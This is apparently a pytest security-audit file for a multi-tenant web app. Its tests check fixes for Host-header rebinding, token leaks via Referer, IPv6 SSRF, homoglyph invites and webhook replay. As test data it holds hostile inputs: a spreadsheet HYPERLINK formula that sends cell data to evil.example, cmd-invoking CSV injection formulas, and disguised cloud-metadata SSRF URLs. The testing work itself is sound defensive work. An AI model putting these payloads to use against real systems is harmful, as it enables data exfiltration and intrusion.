"""Audit 10: attacks the earlier audits' tests did not cover (one section per finding, then what held).
Each finding's test failed on the code before its fix."""

from __future__ import annotations

from typing import Any

import pytest

from tests.connector.web.seed import TenantData
from tests.connector.web.test_oauth import started  # noqa: F401 - a fixture (onboarding recorded, not run)

# ---------------------------------------------------------------- finding: no Host allow-list


@pytest.mark.parametrize("host", ["evil.example", "evil.example:5000", "127.0.0.1.nip.io:5000", "10.0.0.7"])
def test_a_host_the_service_is_not_served_under_is_refused(client: Any, host: str) -> None:
    """The app answered any Host header. A page on rebind.evil.example whose name is re-pointed at 127.0.0.1
    (DNS rebinding) is the same origin to the browser as the demo on the developer's machine: it could read
    /metrics (open to loopback clients without a token) and every unauthenticated page, and a Host header
    an attacker chooses is where host-header poisoning of generated links starts. Now only the public base
    URL's host and the loopback names are answered (HEALTHSCORE_ALLOWED_HOSTS to add more)."""
    for path in ("/login", "/metrics", "/api/v1/accounts"):
        resp = client.get(path, headers={"Host": host})
        assert resp.status_code == 400, (path, resp.status_code)
        assert host.encode() not in resp.data  # the refused name is not echoed


@pytest.mark.parametrize("host", ["localhost", "localhost:5000", "127.0.0.1:5000", "[::1]:5000"])
def test_the_loopback_names_are_served(client: Any, host: str) -> None:
    assert client.get("/login", headers={"Host": host}).status_code == 200


def test_the_public_base_url_host_is_served(settings_overrides: dict[str, object], tenants: Any) -> None:
    from connector import create_app

    app = create_app({**settings_overrides, "public_base_url": "https://health.example.com"})
    client = app.test_client()
    assert client.get("/login", base_url="https://health.example.com").status_code == 200
    assert client.get("/login", base_url="https://HEALTH.example.com:443").status_code == 200
    assert client.get("/login", base_url="https://evil.example").status_code == 400


def test_allowed_hosts_adds_names_and_subdomains(settings_overrides: dict[str, object], tenants: Any) -> None:
    from connector import create_app

    app = create_app({**settings_overrides, "allowed_hosts": "health.internal, .corp.example"})
    client = app.test_client()
    for host, code in [
        ("health.internal", 200),
        ("eu.corp.example", 200),
        ("corp.example.evil.example", 400),
        ("evilcorp.example", 400),
        ("127.0.0.1:5000", 400),  # a list someone set replaces the default
    ]:
        assert client.get("/login", headers={"Host": host}).status_code == code, host


def test_a_load_balancer_probe_by_address_still_reaches_healthz(client: Any) -> None:
    """Health checks (a load balancer probing the instance by its IP) are answered whatever the Host."""
    assert client.get("/healthz", headers={"Host": "10.0.0.7:5000"}).status_code == 200


@pytest.mark.parametrize("value", ["https://health.example.com", "health.example.com/x", "health example"])
def test_allowed_hosts_entries_must_be_host_names(settings_overrides: dict[str, object], value: str) -> None:
    from connector.config import ConfigError, load_settings

    with pytest.raises(ConfigError, match="allowed_hosts"):
        load_settings({**settings_overrides, "allowed_hosts": value}, environ={})


def test_invitation_links_name_the_public_url_not_the_request_host(
    settings_overrides: dict[str, object], tenants: dict[str, TenantData]
) -> None:
    """Host-header poisoning of a sign-in link: the admin's request arrives with a Host an attacker
    influences (an allowed alias, a proxy passing X-Forwarded-Host); the link must still be the public one."""
    from connector import create_app
    from connector.installs import users as auth
    from connector.store import models as m
    from connector.store.db import transaction

    app = create_app(
        {**settings_overrides, "public_base_url": "https://health.example.com", "allowed_hosts": "*"}
    )
    app.config["WTF_CSRF_ENABLED"] = False
    client = app.test_client()
    site = "https://evil.example"
    acme = tenants["acme"]
    with transaction(app.config["HEALTHSCORE"].sqlalchemy_url) as session:
        sid = auth.start_session(session, session.get(m.User, acme.admin_id))
    with client.session_transaction(base_url=site) as sess:
        sess["uid"], sess["tid"], sess["sid"] = acme.admin_id, acme.id, sid
    resp = client.post(
        "/admin/users/invite", data={"email": "new@acme.test", "role": "viewer"}, base_url=site
    )
    page = client.get(resp.headers["Location"], base_url=site)
    assert b"https://health.example.com/invite/" in page.data
    assert b"evil.example" not in page.data


# ---------------------------------------------------------------- finding: the invitation token in the URL

STRONG = "a long enough pw"


def _invite_token(acme_admin: Any, email: str = "new@acme.test") -> str:
    page = acme_admin.post(
        "/admin/users/invite", data={"email": email, "role": "viewer"}, follow_redirects=True
    )
    token: str = page.data.decode().split("/invite/")[1].split("<")[0]
    acme_admin.post("/logout")
    return token


def test_the_invitation_page_moves_its_token_out_of_the_url(acme_admin: Any) -> None:
    """The sign-in token was in the page's URL for as long as the page was open: in the address bar and the
    history, in the Referer of every request from the page (Referrer-Policy same-origin: its own script
    and the 'Sign in' link, into our and any proxy's logs), and the form posted back to the same path (a
    second logged request holding it). Now the page sends no Referer, its address bar shows /invite/
    (data-replace-url, app.js) and the form posts to /invite/; the token waits in the session."""
    client, token = acme_admin, _invite_token(acme_admin)
    opened = client.get(f"/invite/{token}")
    assert opened.status_code == 200
    assert opened.headers["Referrer-Policy"] == "no-referrer"
    page = opened.get_data(as_text=True)
    assert token not in page
    assert 'data-replace-url="/invite/"' in page
    assert 'action="/invite/"' in page
    reloaded = client.get("/invite/")  # the address bar now says /invite/: a reload still shows the form
    assert reloaded.status_code == 200
    assert reloaded.headers["Referrer-Policy"] == "no-referrer"
    assert 'name="password"' in reloaded.get_data(as_text=True)
    done = client.post("/invite/", data={"password": STRONG, "confirm": STRONG})
    assert done.status_code == 302
    assert b"Acme Green Corp" in client.get("/").data
    client.post("/logout")
    assert client.get("/invite/").status_code == 400  # the token left with the session it was kept in


def test_invite_without_a_link_opened_offers_no_form(client: Any) -> None:
    resp = client.get("/invite/")
    assert resp.status_code == 400
    assert b'name="password"' not in resp.data
    assert client.post("/invite/", data={"password": STRONG, "confirm": STRONG}).status_code == 400


def test_a_form_sent_back_with_a_problem_still_posts_to_a_working_url(acme_admin: Any) -> None:
    """A POST straight to /invite/<token> (an older page still open) that fails shows the form again,
    posting to /invite/: the token is kept for it."""
    client, token = acme_admin, _invite_token(acme_admin)
    weak = client.post(f"/invite/{token}", data={"password": "short", "confirm": "short"})
    assert weak.status_code == 400
    assert 'action="/invite/"' in weak.get_data(as_text=True)
    assert client.post("/invite/", data={"password": STRONG, "confirm": STRONG}).status_code == 302


def test_a_dead_link_keeps_no_token(acme_admin: Any) -> None:
    client, token = acme_admin, _invite_token(acme_admin)
    client.get(f"/invite/{token}")
    assert client.get("/invite/not-a-token").status_code == 400
    assert client.get("/invite/").status_code == 400  # the dead link replaced the good one, it did not linger


def test_the_page_script_replaces_the_address() -> None:
    from pathlib import Path

    import connector

    script = (Path(connector.__file__).parent / "static" / "app.js").read_text(encoding="utf-8")
    assert "data-replace-url" in script
    assert "history.replaceState" in script


# ---------------------------------------------------------------- finding: IPv6 site-local webhook targets


@pytest.mark.parametrize("address", ["fec0::1", "feff::a9fe:a9fe", "3fff::1"])
def test_webhook_urls_at_site_local_or_documentation_ipv6_are_refused(
    client: Any, tenants: dict[str, TenantData], address: str
) -> None:
    """Python 3.11 calls fec0::/10 (IPv6 site-local, deprecated by RFC 3879 but still routed inside some
    networks as the internal range) and 3fff::/20 (documentation, RFC 9637) global, so the SSRF guard let a
    workspace admin point outbound webhooks (and, outside production, vendor URLs) at them."""
    from tests.connector.web.seed import bearer
    from webhooks.errors import UnsafeTargetError
    from webhooks.ssrf import check_url

    with pytest.raises(UnsafeTargetError):
        check_url(f"https://[{address}]/hook")
    resp = client.post(
        "/api/v1/webhooks",
        json={"url": f"https://[{address}]/hook"},
        headers=bearer(tenants["acme"].admin_key),
    )
    assert resp.status_code == 422


@pytest.mark.parametrize("address", ["2606:4700:4700::1111", "2a00:1450:4001:82b::200e"])
def test_public_ipv6_webhook_targets_still_pass(address: str) -> None:
    from webhooks.ssrf import check_url

    assert check_url(f"https://[{address}]/hook").addresses[0].compressed == address


# ---------------------------------------------------------------- finding: look-alikes written in one script


@pytest.mark.parametrize(
    "lookalike",
    [
        "\u0475\u0456\u0435\u051d\u0435\u0433@acme.test",  # v i e w e r, all Cyrillic: one script
        "adm\u0131n@acme.test",  # Latin dotless i
        "\u0251dmin@acme.test",  # Latin alpha
        "\u1d00\u1d05\u1d0d\u026a\u0274@acme.test",  # Latin small capitals
    ],
)
def test_invite_refuses_a_look_alike_written_in_one_script(acme_admin: Any, app: Any, lookalike: str) -> None:
    """Audits 2 and 9 refused look-alikes that mix scripts, are fullwidth, invisible or differ by a dot; an
    address written wholly in Cyrillic ('\u0475\u0456\u0435\u051d\u0435\u0433@acme.test'), or with Latin letters that
    no normalisation folds (dotless i, Latin alpha, small capitals), was still invited next to
    viewer@acme.test or admin@acme.test: the users list and the audit log showed two people with one
    address. Now an
    address whose skeleton (confusable letters read as the ASCII ones) is that of someone in the workspace
    is refused."""
    from connector.store import models as m
    from connector.store.db import transaction

    resp = acme_admin.post("/admin/users/invite", data={"email": lookalike, "role": "admin"})
    assert resp.status_code == 400, lookalike
    assert "looks like" in resp.get_data(as_text=True)
    with transaction(str(app.config["HEALTHSCORE"].sqlalchemy_url)) as session:
        assert session.query(m.User).count() == 4  # the two seeded users of each tenant, nothing added


@pytest.mark.parametrize(
    "email", ["\u0434\u0438\u043c\u0430@acme.test", "j\u00f6rg@acme.test", "adm\u0131n@globex-people.test"]
)
def test_addresses_in_other_scripts_that_resemble_nobody_are_invited(acme_admin: Any, email: str) -> None:
    resp = acme_admin.post("/admin/users/invite", data={"email": email, "role": "viewer"})
    assert resp.status_code == 303, email


def test_a_look_alike_of_another_workspaces_address_is_not_told_apart(acme_admin: Any) -> None:
    """The check compares with this workspace's people only: answering differently for another workspace's
    address would tell which addresses exist there."""
    resp = acme_admin.post("/admin/users/invite", data={"email": "\u0430dmin@globex.test", "role": "viewer"})
    assert resp.status_code == 400  # mixed scripts, refused by audit 2's rule whatever exists
    cyrillic_viewer = "\u0475\u0456\u0435\u051d\u0435\u0433@globex.test"  # like viewer@globex.test
    resp = acme_admin.post("/admin/users/invite", data={"email": cyrillic_viewer, "role": "viewer"})
    assert resp.status_code == 303


def test_a_plain_address_is_refused_next_to_its_look_alike(acme_admin: Any) -> None:
    cyrillic_ops = "\u043e\u0440\u0455@acme.test"  # o p s, all Cyrillic
    assert (
        acme_admin.post("/admin/users/invite", data={"email": cyrillic_ops, "role": "viewer"}).status_code
        == 303
    )
    resp = acme_admin.post("/admin/users/invite", data={"email": "ops@acme.test", "role": "viewer"})
    assert resp.status_code == 400
    assert "looks like" in resp.get_data(as_text=True)


# ---------------------------------------------------------------- finding: the OAuth code in the Referer


def test_the_oauth_callback_page_sends_no_referer(acme_admin: Any) -> None:
    """A refused callback shows its error page at /oauth/<vendor>/callback?code=…&state=…; the page's script
    and its 'Connect again' / 'Back to integrations' links sent that URL, code and state included, as the
    Referer (same-origin policy), into our own and any proxy's access logs."""
    page = acme_admin.get("/oauth/salesforce/callback?code=the-authorization-code&state=def")
    assert page.status_code == 400
    assert page.headers["Referrer-Policy"] == "no-referrer"
    assert acme_admin.get("/admin/integrations").headers["Referrer-Policy"] == "same-origin"


# ---------------------------------------------------------------- held (regression tests for attacks that failed)


def test_held_an_api_key_in_the_query_string_is_not_accepted(
    client: Any, tenants: dict[str, TenantData]
) -> None:
    """Keys in URLs end up in proxy and browser logs: only the Authorization header counts."""
    key = tenants["acme"].admin_key
    for param in ("api_key", "key", "access_token", "token"):
        assert client.get(f"/api/v1/accounts?{param}={key}").status_code == 401


@pytest.mark.parametrize("raw", ["NaN", "Infinity", "-Infinity", "1e400", "1" + "0" * 400, "[]", "{}", '"5"'])
def test_held_non_finite_huge_or_mistyped_numbers_are_400s(
    client: Any, tenants: dict[str, TenantData], raw: str
) -> None:
    from tests.connector.web.seed import bearer
    from tests.connector.web.test_api_plays import NEW

    key = bearer(tenants["acme"].admin_key)
    body = '{"name": "p", "to_band": "red", "segments": [], "next_step": "x", "due_days": ' + raw + "}"
    assert (
        client.post("/api/v1/plays", data=body, content_type="application/json", headers=key).status_code
        == 400
    )
    assert client.post("/api/v1/plays", json=NEW, headers=key).status_code == 201  # a plain body still works


@pytest.mark.parametrize("limit", ["1000000000", "9" * 5000, "-1", "0", "1e3", "0x10"])
def test_held_page_sizes_are_bounded(client: Any, tenants: dict[str, TenantData], limit: str) -> None:
    from tests.connector.web.seed import bearer

    key = bearer(tenants["acme"].admin_key)
    account = tenants["acme"].accounts["Acme Red Corp"]
    for path in ("/api/v1/accounts", "/api/v1/tickets", f"/api/v1/accounts/{account}/plays"):
        assert client.get(f"{path}?limit={limit}", headers=key).status_code == 400, path
    assert client.get(f"/api/v1/accounts/{account}/plays?limit=5", headers=key).status_code == 200


def test_held_the_ticket_export_defuses_formulas_a_customer_typed(
    app: Any, acme_viewer: Any, tenants: dict[str, TenantData]
) -> None:
    """Anyone who can e-mail the help desk writes ticket subjects and text (the excerpt); audit 2 checked the
    accounts export only."""
    import csv
    import io

    from connector.clock import set_tenant_clock
    from connector.store import models as m
    from connector.store.db import transaction
    from tests.connector.web.seed import NOW

    evil = [
        '=HYPERLINK("https://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
    ]
    acme = tenants["acme"]
    with transaction(app.config["HEALTHSCORE"].sqlalchemy_url) as session:
        set_tenant_clock(session, acme.id, NOW)
        for i, text in enumerate(evil):
            session.add(
                m.Ticket(
                    tenant_id=acme.id, vendor="salesforce", external_id=f"=1+{i}", subject=text, status="open",
                    priority="normal", group_name=text, vendor_created_at=NOW, vendor_updated_at=NOW,
                    sentiment_label="negative", sentiment_score=-0.5, sentiment_excerpt=text,
                )
            )  # fmt: skip
    resp = acme_viewer.get("/support.csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell == "'" + evil[0] for cell in cells)  # the rows are there, defused
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]


@pytest.mark.parametrize(
    "url",
    [
        "http://[::ffff:169.254.169.254]/",
        "http://[64:ff9b::a9fe:a9fe]/",
        "http://[2002:a9fe:a9fe::]/",
        "http://2852039166/",
        "http://0xa9.0xfe.0xa9.0xfe/",
        "http://0251.0376.0251.0376/",
        "http://169.254.169.254.nip.io/",
    ],
)
def test_held_metadata_in_disguise_is_refused(url: str) -> None:
    from webhooks.errors import UnsafeTargetError
    from webhooks.ssrf import check_url

    with pytest.raises(UnsafeTargetError):
        check_url(url, allow_private=True, resolver=lambda host, port: ["169.254.169.254"])


def test_held_an_oauth_callback_under_another_vendor_finds_no_attempt(
    acme_admin: Any,
    sandbox: Any,
    sandbox_http: Any,
    started: list[Any],  # noqa: F811 - the fixture imported above
) -> None:
    """Mix-up: the code and state Zendesk handed back, delivered to the Salesforce callback (a redirect_uri
    swapped on the way), are refused, and the attempt is spent (no second try with the right vendor)."""
    from tests.connector.web.test_oauth import _consent, _form, _local

    resp = acme_admin.post("/admin/integrations/zendesk/connect", data=_form(sandbox, "zendesk"))
    callback = _local(_consent(sandbox_http, resp.location, "zendesk"))
    mixed = acme_admin.get(callback.replace("/oauth/zendesk/", "/oauth/salesforce/"))
    assert mixed.status_code == 400
    assert acme_admin.get(callback).status_code == 400
    assert started == []


def test_held_the_connect_page_names_the_configured_callback_not_the_request_host(
    settings_overrides: dict[str, object], tenants: dict[str, TenantData]
) -> None:
    """redirect_uri is built from public_base_url: a Host an attacker sends cannot re-point it."""
    from connector import create_app
    from connector.installs import users as auth
    from connector.store import models as m
    from connector.store.db import transaction

    app = create_app({**settings_overrides, "public_base_url": "http://127.0.0.1:5000", "allowed_hosts": "*"})
    client = app.test_client()
    acme = tenants["acme"]
    with transaction(app.config["HEALTHSCORE"].sqlalchemy_url) as session:
        sid = auth.start_session(session, session.get(m.User, acme.admin_id))
    with client.session_transaction(base_url="http://evil.example") as sess:
        sess["uid"], sess["tid"], sess["sid"] = acme.admin_id, acme.id, sid
    page = client.get("/admin/integrations/zendesk/connect", base_url="http://evil.example")
    assert page.status_code == 200
    assert b"http://127.0.0.1:5000/oauth/zendesk/callback" in page.data
    assert b"evil.example" not in page.data


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/webhooks/1", {"tenant_id": 2}),
        ("/api/v1/webhooks/1", {"secret": "whsec_chosen"}),
        ("/api/v1/webhooks/1", {"id": 7}),
        ("/api/v1/plays/1", {"tenant_id": 2}),
        ("/api/v1/plays/1", {"created_at": "2020-01-01T00:00:00Z"}),
    ],
)
def test_held_api_bodies_cannot_set_fields_nobody_may_write(
    client: Any, tenants: dict[str, TenantData], path: str, body: dict[str, Any]
) -> None:
    """Mass assignment: a field the schema does not list (the owner, the secret, ids, timestamps) is a 400."""
    from tests.connector.web.seed import bearer

    resp = client.patch(path, json=body, headers=bearer(tenants["acme"].admin_key))
    assert resp.status_code == 400
    assert "Additional properties" in " ".join(resp.get_json()["problems"])


def _hubspot_for(app: Any, tenant: TenantData, portal: str) -> None:
    from datetime import UTC, datetime

    from connector.installs.vault import Vault
    from connector.store import models as m
    from connector.store.db import transaction
    from tests.connector.web.test_ratelimits import SECRETS

    settings = app.config["HEALTHSCORE"]
    with transaction(settings.sqlalchemy_url) as s:
        s.add(
            m.Installation(
                tenant_id=tenant.id, vendor="hubspot", status="connected", base_url="https://x.test",
                token_url="https://x.test/token", client_id="cid",
                client_secret_enc=Vault(settings).encrypt(SECRETS["hubspot"]), vendor_account=portal,
                settings={}, created_at=datetime.now(UTC),
            )
        )  # fmt: skip


def test_held_a_hubspot_event_signed_for_one_workspace_is_refused_at_another(
    app: Any, client: Any, tenants: dict[str, TenantData], monkeypatch: pytest.MonkeyPatch
) -> None:
    """HubSpot signs with the app's client secret, the same for every workspace: a delivery for acme's portal
    replayed to globex's URL (re-signed for that URL, as anyone with the app's secret could) is refused on
    the portal id; replayed as sent, the signature (which covers the URL) fails."""
    import json
    from datetime import UTC, datetime

    from connector.realtime import inbound as realtime_inbound
    from tests.connector.web.test_ratelimits import PUBLIC, SECRETS
    from webhooks.inbound import sign_hubspot_v3

    monkeypatch.setattr(realtime_inbound, "dispatch", lambda *_a: None)
    _hubspot_for(app, tenants["acme"], "4242")
    _hubspot_for(app, tenants["globex"], "5353")
    event = {"eventId": 1, "subscriptionId": 1, "portalId": 4242, "appId": 1, "occurredAt": 1_780_000_000_000,
             "subscriptionType": "ticket.propertyChange", "attemptNumber": 0, "objectId": 801}  # fmt: skip
    body = json.dumps([event]).encode()
    now = int(datetime.now(UTC).timestamp() * 1000)
    signed = {"Content-Type": "application/json"}
    for_acme = {
        **signed,
        **sign_hubspot_v3(SECRETS["hubspot"], "POST", PUBLIC + "/inbound/hubspot/acme", body, now),
    }
    assert client.post("/inbound/hubspot/globex", data=body, headers=for_acme).status_code == 401
    for_globex = sign_hubspot_v3(SECRETS["hubspot"], "POST", PUBLIC + "/inbound/hubspot/globex", body, now)
    resp = client.post("/inbound/hubspot/globex", data=body, headers={**signed, **for_globex})
    assert resp.status_code == 403
    assert resp.get_json()["error"] == "wrong_tenant"
    assert client.post("/inbound/hubspot/acme", data=body, headers=for_acme).status_code == 202
    replay = client.post("/inbound/hubspot/acme", data=body, headers=for_acme)
    assert replay.status_code == 409  # the same signed request again: refused as a replay
    assert replay.get_json()["error"] == "replayed"
